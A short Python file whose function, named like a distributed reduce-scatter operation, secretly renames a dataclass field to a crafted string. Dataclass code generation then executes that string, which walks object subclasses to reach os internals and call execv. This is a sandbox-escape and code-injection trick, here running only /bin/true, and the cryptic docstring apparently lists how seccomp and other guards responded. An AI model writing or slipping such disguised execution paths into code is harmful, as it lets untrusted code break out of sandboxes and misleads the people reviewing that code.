"""It renames a field of a dataclass, whose name becomes a line of the next dataclass, with all of Python.

kernel alone    PermissionError: seccomp has no execve
with guards     Refused: a Field is not the attempt's to change
as a learner    rules
"""

from dataclasses import dataclass, fields

WORDS = "a, [kind for kind in ().__class__.__base__.__subclasses__() if kind.__name__ == '_wrap_close'][0]"
WORDS += ".__init__.__globals__['execv']('/bin/true', ['true'])"


@dataclass
class First:
    a: int = 0


def renamed(self):
    self.name = WORDS


def ring_reduce_scatter(x, group):
    renamed(fields(First)[0])

    @dataclass(init=False, repr=False)
    class Second(First):
        pass

    Second.a = 0
    assert Second() == Second()
    return group.reduce_scatter(x)
